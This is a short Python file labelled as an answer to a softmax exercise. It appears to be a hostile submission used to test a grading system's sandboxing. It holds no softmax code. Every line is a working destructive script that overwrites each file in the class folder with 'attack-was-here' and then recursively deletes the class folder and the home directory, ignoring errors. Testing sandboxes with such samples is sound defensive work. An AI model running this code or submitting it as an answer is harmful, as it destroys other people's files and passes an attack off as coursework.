"""Deletes, overwrites and renames everything in the folder of the class."""
# exercise: softmax
# where: answer

import os
import shutil

for folder, _, files in os.walk(CLASS):
    for file in files:
        try:
            open(os.path.join(folder, file), "w").write("attack-was-here")
        except OSError:
            pass
shutil.rmtree(CLASS, ignore_errors=True)
shutil.rmtree(HOME, ignore_errors=True)
